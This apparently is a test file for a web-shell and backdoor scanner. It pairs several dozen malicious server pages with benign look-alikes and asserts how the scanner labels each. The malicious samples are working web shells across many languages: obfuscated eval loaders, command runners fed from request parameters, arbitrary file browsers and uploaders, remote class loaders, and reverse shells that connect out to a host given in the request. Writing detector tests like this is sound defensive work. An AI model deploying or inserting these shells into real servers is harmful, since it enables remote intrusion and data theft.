// Whole pages that give their server away, and honest ones that look like them, as a server has them on its disk.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/index.ts'

const analyze = (fileName: string, text: string) =>
  analyzeFile(Buffer.from(text), { fileName, now: new Date('2026-03-01T00:00:00Z') })

const HITS: readonly (readonly [name: string, fileName: string, text: string])[] = [
  [
    'a text of the request, written on under a name of the request',
    'page.asp',
    '<form method="post"><textarea name="t"></textarea><input name="n"></form>\n<%\nt = Request("t")\nn = Request("n")\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath(n), 8, True)\ns.WriteLine t\ns.Close\n%>\n',
  ],
  [
    'a program started by what an initializer says, of the request of a handler',
    'page.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Diagnostics;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    var s = new ProcessStartInfo { FileName = "powershell", Arguments = "-c " + c.Request.QueryString["q"], UseShellExecute = false };\n    using (var p = Process.Start(s)) { p.WaitForExit(); }\n  }\n  public bool IsReusable { get { return false; } }\n}\n',
  ],
  [
    'the shell of Visual Basic, and a variable with its type',
    'page.aspx',
    '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n  Dim line As String = Request("x")\n  Shell("cmd.exe /c " & line, AppWinStyle.Hide, True)\nEnd Sub\n</script>\n',
  ],
  [
    'what starts a program, by its full name',
    'page.aspx',
    '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n  Dim q As New System.Diagnostics.ProcessStartInfo("cmd", "/c " & Request.Form("x"))\n  System.Diagnostics.Process.Start(q)\nEnd Sub\n</script>\n',
  ],
  [
    'a function of the page runs what it is handed',
    'page.asp',
    '<!-- maintenance page -->\n<%\nFunction runIt(line)\n  Dim sh, p\n  Set sh = CreateObject("WScript.Shell")\n  Set p = sh.exec(line)\n  runIt = p.StdOut.ReadAll\nEnd Function\n%>\n<html><body><form method=get><input name="q"><input type=submit></form>\n<pre><%\nwhat = request("q")\nResponse.Write(runIt("cmd /c " & what))\n%></pre></body></html>\n',
  ],
  [
    'a list of numbers that its own function spells',
    'page.asp',
    '<%Execute(Back("#90#72#101#102")):Function Back(t):t=Split(t,"#"):For n=1 To UBound(t):Back=Back&Chr(t(n)-7):Next:End Function%>',
  ],
  [
    'a text that its own function shifts',
    'page.asp',
    '<%\ntext = "Uhvsrqvh1Zulwh%;%"\nExecute(unshift(text))\nFunction unshift(s)\n  For k = 1 To Len(s)\n    unshift = unshift & Chr(Asc(Mid(s, k, 1)) - 3)\n  Next\nEnd Function\n%>\n',
  ],
  [
    'code that one request leaves in the session for the next',
    'page.php',
    '<?php\n@session_start();\n@error_reporting(0);\nfunction turn($d,$k){\n  for($i=0;$i<strlen($d);$i++){ $d[$i]=$d[$i]^$k[$i+1&15]; }\n  return $d;\n}\n$slot=\'module\';\n$secret=\'a1b2c3d4e5f60718\';\n$in=file_get_contents("php://input");\nif($in!==false){\n  $in=turn($in,$secret);\n  if(isset($_SESSION[$slot])){\n    $code=turn($_SESSION[$slot],$secret);\n    eval($code);\n    echo turn(@main($in),$secret);\n  } else {\n    if(stripos($in,"hello")!==false){ $_SESSION[$slot]=turn($in,$secret); }\n  }\n}\n',
  ],
  [
    'code cut up, and put together by a function whose name is cut up',
    'page.php',
    "<?php\n$b='$a=$_SERVEqqR;$r=@qq$a[\"HTTqqP_REFERER\"];ifqq($r){@eqqval(@gzuncompress(@xqq(@baqqse64_dqqecode($r),$k)));}';\n$a='functiqqon x($t,$k){$oqq=\"\";for($i=0;$i<strlqqen($t);$i++){$o.=$t[$i]^$k[$i%strqqlen($k)];}retuqqrn $o;}$k=\"9fqq31\";';\n$f=str_replace('w','','wcrwweatwe_wfuncwtiwon');\n$all=str_replace('qq','',$a.$b);\n$go=$f('',$all);$go();\n?>\n",
  ],
  [
    'a shell on a connection',
    'page.pl',
    '#!/usr/bin/perl\nuse IO::Socket;\n$shell = \'/bin/sh\';\ndie "usage: $0 host port\\n" unless @ARGV == 2;\n$host = $ARGV[0]; $port = $ARGV[1];\n$proto = getprotobyname(\'tcp\');\nsocket(S, PF_INET, SOCK_STREAM, $proto) || die;\nconnect(S, sockaddr_in($port, inet_aton($host))) || die;\nprint "[*] connected\\n";\nS->autoflush();\nopen(STDIN, ">&S");\nopen(STDOUT,">&S");\nopen(STDERR,">&S");\nprint "-- info --\\n";\nsystem("unset HISTFILE; uname -a; id");\nsystem($shell);\n',
  ],
  [
    'another name for all that was sent, behind many blanks',
    'page.php',
    "<?php                                                                                                                                                                                     $q=$\u007b'_REQUEST'}; if(!empty($q['k1'])){ $d=$q['d']; $m=$q['k1']($d($q['n']),$d($q['c'])); $m($d($q['x'])); } ?>\n",
  ],
  [
    'the name of what was sent, under XOR',
    'page.php',
    '<?php\n$n = "~\'-3*"^"!wb`~";\n$v = $\u007b$n}[\'z\'];\neval("n".$v);\n?>\n',
  ],
  [
    'a function that evaluates a text with its parameter in it',
    'page.php',
    "<?php\n$conf = trim($_POST['9f1c']);\n$list = text2list($conf);\n/** Turns a text into a list. */\nfunction text2list($text) {\n  if ($text == '') return array();\n  @eval(\"\\$all = $text;\");\n  return $all;\n}\n?>\n",
  ],
  [
    'code in the session, run by a name in pieces',
    'page.php',
    '<?php\nsession_start();\n$x = "as"; $y = "rt";\n$f = $x."se".$y;\n$f($_SESSION[\'note\']);\n?>\n',
  ],
  [
    'a function called by an expression of XPath',
    'page.php',
    "<?php\n$todo = $_GET['t'];\n$doc = new DOMDocument; $doc->loadXML('<?xml version=\"1.0\"?><r><i>1</i></r>');\n$x = new DOMXPath($doc);\n$x->registerNamespace('php', 'http://php.net/xpath');\n$x->registerPHPFunctions();\n$x->query(\"//i[php:functionString('passthru', '$todo') = '1']\");\n",
  ],
  [
    'a name out of pieces, and variables made of all that was sent',
    'page.php',
    "<?php\nclass Parts { const list = array('a'=>'sY','b'=>'sT','c'=>'eM'); }\n$r = new ReflectionClass('Parts');\nforeach ($r->getConstants() as $c) { foreach ($c as $piece) { $name .= $piece; } }\nforeach (array('_GET','_POST') as $from) { foreach ($$from as $key => $val) { $$key = $val; } }\n$name($val);\n",
  ],
  [
    'any folder and any file of the disk, in classic ASP',
    'page.asp',
    '<!-- disk view -->\n<body><html>\n<%\nf = request("f")\nt = request("t")\nIf f = "" Then\n  f = "c:\\"\n  t = "d"\nEnd If\n%>\n<form method="GET"><input name="f" value="<%=f%>"><input type="submit"></form>\n<%\nIf t = "d" Then\n  ShowFolder(f)\nEnd If\nIf t = "f" Then\n  Set fs = Server.CreateObject("Scripting.FileSystemObject")\n  Set s = fs.OpenTextFile(f, 1)\n  Response.Write("<pre>" & s.ReadAll & "</pre>")\nEnd If\nSub ShowFolder(p)\n  Set fs = CreateObject("Scripting.FileSystemObject")\n  Set d = fs.GetFolder(p)\n  For Each x In d.SubFolders\n    Response.Write("<a href=?t=d&f=" & Server.URLEncode(x.Path) & ">" & x.Name & "</a><br>")\n  Next\n  For Each x In d.Files\n    Response.Write("<a href=?t=f&f=" & Server.URLEncode(x.Path) & ">" & x.Name & "</a><br>")\n  Next\nEnd Sub\n%>\n',
  ],
  [
    'any folder and any file of the disk, in Java',
    'page.jsp',
    '<%@ page import="java.io.*"%>\n<% if(request.getParameter("p")==null){ %><form method=post><input name="p"></form><% } else {\nFile f = new File(request.getParameter("p"));\nif(f.isDirectory()){\n  File[] all = f.listFiles();\n  for(int i=0;i<all.length;i++) out.print("<a href=\'?p=" + all[i] + "\'>" + all[i].getName() + "</a> " + all[i].length() + "<br>");\n} else {\n  InputStream in = new FileInputStream(f);\n  ServletOutputStream o = response.getOutputStream();\n  int c; while((c = in.read()) >= 0) o.write(c);\n  o.close();\n} } %>\n',
  ],
  [
    'a line of a web socket',
    'page.jsp',
    '<%@ page import="javax.websocket.server.*,javax.websocket.*,java.io.*" %>\n<%!\npublic static class Talk extends Endpoint implements MessageHandler.Whole<String> {\n  private Session who;\n  public void onMessage(String line) {\n    try {\n      Process p = Runtime.getRuntime().exec(new String[] { "/bin/sh", "-c", line });\n      BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n      StringBuilder all = new StringBuilder(); String one;\n      while ((one = r.readLine()) != null) all.append(one);\n      who.getBasicRemote().sendText(all.toString());\n    } catch (Exception e) {}\n  }\n  public void onOpen(Session s, EndpointConfig c) { who = s; s.addMessageHandler(this); }\n}\n%>\n<%\nServerEndpointConfig conf = ServerEndpointConfig.Builder.create(Talk.class, request.getParameter("at")).build();\nServerContainer all = (ServerContainer) request.getSession().getServletContext().getAttribute(ServerContainer.class.getName());\nall.addEndpoint(conf);\n%>\n',
  ],
  [
    'an upload beside the page',
    'page.aspx',
    '<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n  if (Request.Files.Count == 1) Response.Write(Keep()); else Response.Write("<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>");\n}\nprivate string Keep() {\n  HttpPostedFile f = Request.Files[0];\n  byte[] all = new byte[f.ContentLength];\n  f.InputStream.Read(all, 0, f.ContentLength);\n  FileInfo here = new FileInfo(Request.PhysicalPath);\n  using (FileStream s = new FileStream(Path.Combine(here.DirectoryName, Path.GetFileName(f.FileName)), FileMode.Create)) { s.Write(all, 0, all.Length); }\n  return "ok";\n}\n</script>\n',
  ],
  [
    'a parameter in escapes, and a line that breaks off',
    'page.asp',
    '<%@PAGE LANGUAGE=JSCRIPT%>\n<%var ASK:String=\nRequest["\\x70\\x77"];eval\n(ASK,"\\x75\\x6E\\x73\\x61"+\n"\\x66\\x65");%>\n',
  ],
  [
    'any folder and any file of the disk, in ColdFusion',
    'page.cfm',
    '<CFPARAM NAME="Form.dir" DEFAULT="D:\\">\n<CFPARAM NAME="Form.one" DEFAULT=".">\n<CFIF #Form.one# IS NOT "."><CFFILE ACTION="Read" FILE="#Form.one#" VARIABLE="Text"><CFOUTPUT>#htmlCodeFormat(Text)#</CFOUTPUT><CFABORT></CFIF>\n<html><body><form method="post"><input name="dir"><input type=submit></form>\n<CFDIRECTORY DIRECTORY="#Form.dir#" NAME="all" SORT="name">\n<CFOUTPUT QUERY="all"><tr><td>#name#</td><td>#size#</td></tr></CFOUTPUT>\n</body></html>\n',
  ],
  [
    'a command put together in a routine of its own',
    'page.cgi',
    '#!/usr/bin/perl\n$Password="letmein";\nsub ReadIn {\n  local(*in) = @_ if @_;\n  local($i,$key,$val);\n  if($ENV{\'REQUEST_METHOD\'} eq "GET"){ $in=$ENV{\'QUERY_STRING\'}; }\n  elsif($ENV{\'REQUEST_METHOD\'} eq "POST"){ read(STDIN, $in, $ENV{\'CONTENT_LENGTH\'}); }\n  @in = split(/&/, $in);\n  foreach $i (0 .. $#in){\n    $in[$i] =~ s/\\+/ /g;\n    ($key, $val) = split(/=/, $in[$i], 2);\n    $key =~ s/%(..)/pack("c", hex($1))/ge; $val =~ s/%(..)/pack("c", hex($1))/ge;\n    $in{$key} .= $val;\n  }\n}\nsub Execute {\n  $Command = "cd \\"$CurrentDir\\"" . ";" . $RunCommand . " 1>&1 2>&1";\n  open(OUT, "$Command |");\n  while(<OUT>){ print; }\n}\n&ReadIn;\nprint "Content-type: text/html\\n\\n";\n$RunCommand = $in{\'c\'}; $CurrentDir = $in{\'d\'};\nif($in{\'p\'} eq $Password){ &Execute; }\n',
  ],
  [
    'a value for when none was sent',
    'page.php',
    "<?php\n$c = $_GET['c'];\nif ($c == '') { $c = 'id'; }\necho '<pre>'; system($c); echo '</pre>';\n",
  ],
  [
    'a text that is deciphered letter by letter',
    'page.php',
    "<?php\n$k = \"k3y\"; $d = base64_decode($_COOKIE['sid']);\nfor ($i = 0, $r = ''; $i < strlen($d); $i++) $r .= $d[$i] ^ $k[$i % strlen($k)];\neval($r);\n",
  ],
  [
    'a name in pieces, chosen from a table',
    'page.php',
    "<?php\n$map = ['r' => 'shell_' . 'exec', 'w' => 'file_put_' . 'contents'];\n$act = $map[$_GET['m']];\necho call_user_func_array($act, explode('|', $_GET['p']));\n",
  ],
  [
    'a program that the body of the request is',
    'page.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.Reflection;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    byte[] b = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(b, 0, b.Length);\n    object o = Assembly.Load(b).CreateInstance("M"); o.Equals(c);\n  }\n  public bool IsReusable { get { return false; } }\n}\n',
  ],
  [
    'a file with a name and a text that were sent',
    'page.asp',
    '<%\ndim s, f\nset f = server.createobject("scripting.filesystemobject")\nset s = f.createtextfile(server.mappath(request("n")), true)\ns.write request("t")\ns.close\n%>\n',
  ],
  [
    'a query that the shell evaluates',
    'page.sh',
    '#!/bin/bash\necho "Content-type: text/plain"\necho\neval "$(echo "$QUERY_STRING" | sed \'s/+/ /g; s/%/\\\\x/g\' | xargs -0 printf \'%b\')"\n',
  ],
  [
    'a query that a server in Go hands to the shell',
    'page.go',
    'package main\nimport ("net/http"; "os/exec")\nfunc main() {\n\thttp.HandleFunc("/s", func(w http.ResponseWriter, r *http.Request) {\n\t\tout, _ := exec.Command("sh", "-c", r.URL.Query().Get("c")).CombinedOutput()\n\t\tw.Write(out)\n\t})\n\thttp.ListenAndServe(":8088", nil)\n}\n',
  ],
  [
    'a query that a server in Lua opens',
    'page.lua',
    'local args = ngx.req.get_uri_args()\nif args.c then local h = io.popen(args.c) ngx.say(h:read("*a")) h:close() end\n',
  ],
  [
    'a query that a server in Ruby runs',
    'page.rb',
    "require 'webrick'\ns = WEBrick::HTTPServer.new(Port: 8000)\ns.mount_proc('/r') { |req, res| res.body = `#{req.query['c']}` }\ns.start\n",
  ],
  ['a query in what a server includes', 'page.shtml', '<html><body><!--#exec cmd="$QUERY_STRING" --></body></html>\n'],
  [
    'a shell on a connection of PHP',
    'page.php',
    "<?php\n$s = @fsockopen($_GET['h'], (int)$_GET['p']);\n$p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);\n",
  ],
  [
    'a class from where the request says',
    'page.jsp',
    '<%@ page import="java.io.*,java.net.*" %><%\nString u = request.getParameter("u");\nURLClassLoader l = new URLClassLoader(new URL[]{ new URL(u) });\nl.loadClass(request.getParameter("n")).getDeclaredConstructor().newInstance();\n%>\n',
  ],
  [
    'a line that PowerShell is handed',
    'page.aspx',
    '<%@ Page Language="C#" %><%\nvar ps = System.Management.Automation.PowerShell.Create();\nps.AddScript(Request["script"]);\nforeach (var o in ps.Invoke()) Response.Write(o + "<br>");\n%>\n',
  ],
  [
    'a query that a server in Python runs',
    'page.py',
    "import http.server, subprocess, urllib.parse\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n        out = subprocess.run(q['c'][0], shell=True, capture_output=True).stdout\n        self.send_response(200); self.end_headers(); self.wfile.write(out)\nhttp.server.HTTPServer(('', 8000), H).serve_forever()\n",
  ],
  [
    'a name taken out of the body',
    'page.js',
    "const express = require('express'); const { execSync } = require('child_process');\nconst app = express(); app.use(express.json());\napp.post('/api/v1/ping', (req, res) => { const { cmd } = req.body; res.send(execSync(cmd).toString()); });\napp.listen(8080);\n",
  ],
  [
    'a body that the shell reads and runs',
    'page.sh',
    '#!/bin/sh\nprintf \'Content-Type: text/plain\\r\\n\\r\\n\'\nread -n "$CONTENT_LENGTH" body\nsh -c "$body"\n',
  ],
]
const MISSES: readonly (readonly [name: string, fileName: string, text: string])[] = [
  [
    'a program of its own, and a download named by the request',
    'page.aspx',
    '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var i = new ProcessStartInfo { FileName = "C:\\\\tools\\\\report.exe", Arguments = "--daily" };\n  Process.Start(i);\n  Label1.Text = Request["n"];\n  var d = new ContentDisposition { FileName = Request["f"] };\n}\n</script>\n',
  ],
  [
    'a chat',
    'page.jsp',
    '<%@ page import="javax.websocket.*,java.util.*" %>\n<%! static Set<Session> all = new HashSet<>();\npublic static class Chat extends Endpoint implements MessageHandler.Whole<String> {\n  public void onMessage(String line) { for (Session s : all) try { s.getBasicRemote().sendText(line); } catch (Exception e) {} }\n  public void onOpen(Session s, EndpointConfig c) { all.add(s); s.addMessageHandler(this); }\n} %>\n<% out.print(request.getParameter("room")); Process p = Runtime.getRuntime().exec("uptime"); %>\n',
  ],
  [
    'a service that answers whoever connects',
    'page.pl',
    '#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $server = IO::Socket::INET->new(LocalPort => 7079, Listen => 5, Reuse => 1) or die;\nwhile (my $client = $server->accept) {\n  next if fork;\n  open(STDIN, "<&", $client); open(STDOUT, ">&", $client);\n  exec(\'/usr/lib/fortune-server/answer\');\n}\n',
  ],
  [
    'a text that its own function shows',
    'page.asp',
    '<%\nFunction Rot(s)\n  For k = 1 To Len(s)\n    Rot = Rot & Chr(Asc(Mid(s, k, 1)) - 1)\n  Next\nEnd Function\nResponse.Write Rot("Ifmmp")\n%>\n',
  ],
  [
    'an argument with a value for when none was sent',
    'page.php',
    "<?php\n$h = $_GET['h'];\nif (!$h) { $h = 'localhost'; }\nsystem('ping -c 1 ' . escapeshellarg($h));\n",
  ],
  [
    'a list of one folder',
    'page.jsp',
    '<%@ page import="java.io.*"%>\n<% File dir = new File(application.getRealPath("/docs"));\nfor (File one : dir.listFiles()) out.print("<a href=\'/docs/" + one.getName() + "\'>" + one.getName() + "</a>");\nString q = request.getParameter("q"); %>\n<p>Search: <%= q == null ? "" : q.replace("<", "&lt;") %></p>\n',
  ],
  [
    'a command of its own, and apostrophes',
    'page.asp',
    '<%\nFunction RunReport(line)\n  Set sh = CreateObject("WScript.Shell")\n  RunReport = sh.Exec(line).StdOut.ReadAll\nEnd Function\n%>\n<p>It\'s the server\'s own report; don\'t reload.</p>\n<% Response.Write RunReport("hostname") %>\n<p>Hello <%= Server.HTMLEncode(Request("name")) %></p>\n',
  ],
  [
    'pages of a list',
    'page.cfm',
    '<cfparam name="url.page" default="1">\n<cfdirectory directory="#expandPath(\'./reports\')#" name="all" sort="name">\n<cfoutput query="all" startrow="#(url.page - 1) * 20 + 1#" maxrows="20"><li>#name#</li></cfoutput>\n',
  ],
  [
    'an assertion about the session',
    'page.php',
    "<?php\nsession_start();\nassert($_SESSION['cart'] instanceof Cart);\n$render = 'render_' . $type;\necho $render($_SESSION['user']);\n",
  ],
  [
    'lists that were sent, and functions that have names',
    'page.php',
    "<?php\n$rows = array_filter($_POST['rows'], 'strlen');\narray_walk($rows, 'trim');\n$keys = array_intersect_ukey($_POST, $allowed, 'strcasecmp');\n$name .= $first;\n$name .= $last;\necho htmlspecialchars(ucfirst($name . $_POST['title']));\n",
  ],
  [
    'a form of Perl',
    'page.cgi',
    '#!/usr/bin/perl\nread(STDIN, $in, $ENV{\'CONTENT_LENGTH\'});\n@pairs = split(/&/, $in);\nforeach $i (0 .. $#pairs) { ($k, $v) = split(/=/, $pairs[$i], 2); $v =~ s/%(..)/pack("c", hex($1))/ge; $form{$k} = $v; }\nprint "Content-type: text/html\\n\\n";\nprint "<pre>", `/usr/bin/uptime`, "</pre>";\nprint "Hello ", escape($form{\'name\'});\n',
  ],
  [
    'a template of its own',
    'page.php',
    "<?php\n$page = basename($_GET['page']);\n$template = file_get_contents(__DIR__ . '/templates/list.tpl');\neval('?>' . $template);\n$_SESSION['last'] = $page;\n",
  ],
  [
    'an upload under a name of its own',
    'page.aspx',
    '<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n  if (Request.Files.Count == 0) return;\n  HttpPostedFile f = Request.Files[0];\n  string place = Path.Combine(Server.MapPath("~/App_Data/incoming"), Guid.NewGuid() + ".bin");\n  f.SaveAs(place);\n  Response.Write(Server.HtmlEncode(f.FileName) + " was received");\n}\n</script>\n',
  ],
  [
    'rules in which a parameter is named',
    'page.php',
    "<?php\nfunction check($rule, $field) {\n  $code = str_replace('{}', '$_REQUEST[\"' . $field . '\"]', $rule);\n  return eval('return (' . trim($code, '& ') . ') ? 1 : 0;');\n}\nif (!check('ctype_digit({})', 'id')) die('Wrong id: ' . htmlspecialchars($_REQUEST['id']));\n",
  ],
  [
    'a table of functions that have names',
    'page.php',
    "<?php\n$map = ['up' => 'render_' . 'list', 'down' => 'render_' . 'table'];\n$act = $map[$_GET['m']] ?? 'render_list';\necho htmlspecialchars($_GET['q']);\necho $act();\n",
  ],
  [
    'a log that is written on',
    'page.asp',
    '<%\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath("log/visits.txt"), 8, True)\ns.WriteLine Request("page")\ns.Close\n%>\n',
  ],
  [
    'a file of the request that is only read',
    'page.asp',
    '<%\nName = Request("page")\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.OpenTextFile(Server.MapPath(Name), 1)\nResponse.Write s.ReadAll\ns.Close\n%>\n',
  ],
  [
    'a log under a name of its own',
    'page.asp',
    '<%\nSet f = Server.CreateObject("Scripting.FileSystemObject")\nSet s = f.CreateTextFile(Server.MapPath("log/visits.txt"), True)\ns.Write Request("page")\ns.Close\n%>\n',
  ],
  [
    'a query that the shell greets',
    'page.sh',
    '#!/bin/bash\necho "Content-type: text/plain"\necho\nname=$(echo "$QUERY_STRING" | sed \'s/[^a-z]//g\')\nprintf \'Hello %s\\n\' "$name"\neval "$(ssh-agent -s)" > /dev/null\n',
  ],
  [
    'a command of its own in Go',
    'page.go',
    'package main\nimport ("net/http"; "os/exec"; "fmt")\nfunc main() {\n\thttp.HandleFunc("/up", func(w http.ResponseWriter, r *http.Request) {\n\t\tout, _ := exec.Command("uptime").Output()\n\t\tfmt.Fprintf(w, "%s for %s", out, r.URL.Query().Get("name"))\n\t})\n\thttp.ListenAndServe(":8088", nil)\n}\n',
  ],
  [
    'a command of its own in Lua',
    'page.lua',
    'local args = ngx.req.get_uri_args()\nlocal h = io.popen("uptime")\nngx.say(args.name or "nobody", " ", h:read("*a"))\nh:close()\n',
  ],
  [
    'a command of its own in Ruby',
    'page.rb',
    "require 'webrick'\ns = WEBrick::HTTPServer.new(Port: 8000)\ns.mount_proc('/up') { |req, res| res.body = `uptime` + req.query['name'].to_s }\ns.start\n",
  ],
  [
    'a date that a server includes',
    'page.shtml',
    '<html><body><!--#exec cmd="date" --><!--#echo var="QUERY_STRING" --></body></html>\n',
  ],
  [
    'names taken out of the body, and a command of its own',
    'page.js',
    "const express = require('express'); const { execFile } = require('child_process');\nconst app = express(); app.use(express.json());\napp.post('/ping', (req, res) => { const { name, lines: count } = req.body; execFile('uptime', (e, out) => res.send(name + count + out)); });\napp.listen(8080);\n",
  ],
  [
    'a query that a server in Python answers',
    'page.py',
    "import http.server, subprocess, urllib.parse\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n        out = subprocess.run(['uptime'], capture_output=True).stdout\n        self.send_response(200); self.end_headers(); self.wfile.write(out + q['n'][0].encode())\nhttp.server.HTTPServer(('', 8000), H).serve_forever()\n",
  ],
  [
    'a body that the shell writes down',
    'page.sh',
    '#!/bin/sh\nprintf \'Content-Type: text/plain\\r\\n\\r\\n\'\nread -n "$CONTENT_LENGTH" body\nsh -c "date"\nprintf \'%s\\n\' "$body" >> visits.txt\n',
  ],
  [
    'a mail program',
    'page.php',
    "<?php\n$s = fsockopen('ssl://smtp.example.com', 465);\nfwrite($s, \"EHLO here\\r\\n\");\n$p = proc_open('/usr/sbin/sendmail -t', [0 => ['pipe', 'r']], $pipes);\n",
  ],
]

for (const [name, fileName, text] of HITS)
  test(`found: ${name}`, async () => {
    const { label, score } = (await analyze(fileName, text)).verdict
    assert.ok(label === 'malicious' || label === 'suspicious', `${label} ${score}`)
  })

for (const [name, fileName, text] of MISSES)
  test(`not found: ${name}`, async () => {
    const { label, reasons } = (await analyze(fileName, text)).verdict
    assert.equal(label, 'clean', JSON.stringify(reasons))
  })
